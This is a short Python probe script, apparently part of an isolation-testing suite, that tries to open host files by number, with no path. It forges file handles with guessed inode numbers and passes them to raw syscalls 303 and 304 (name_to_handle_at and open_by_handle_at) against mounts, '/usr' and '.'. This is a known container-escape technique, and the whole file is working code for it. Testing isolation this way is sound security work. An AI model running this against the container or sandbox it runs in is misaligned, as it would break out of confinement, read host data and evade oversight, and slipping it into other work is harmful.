"""Open files of the host by number, without a path: handles of the root and of the mounts given here."""

import ctypes
import os

from probe import SCENE, call, each


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def by_number(folder, inode):
    def act():
        handle = Handle(8, 1)
        ctypes.memmove(handle.data, (ctypes.c_uint32 * 2)(inode, 0), 8)
        mount = os.open(folder, os.O_RDONLY)
        got = call(304, mount, ctypes.byref(handle), os.O_RDONLY)
        return os.listdir(got)[:5]

    return act


def reopened(folder):
    def act():
        handle, mount_id = Handle(128), ctypes.c_int()
        call(303, -100, ctypes.c_char_p(folder.encode()), ctypes.byref(handle), ctypes.byref(mount_id), 0)
        got = call(304, os.open(folder, os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
        return os.listdir(got)[:5]

    return act


tries = {"%s inode %d" % (f, i): by_number(f, i) for f in (SCENE["mounts"] + ["/usr", "."]) for i in (1, 2, 128)}
tries.update({"again " + folder: reopened(folder) for folder in SCENE["mounts"] + ["/usr", "."]})
each(tries)
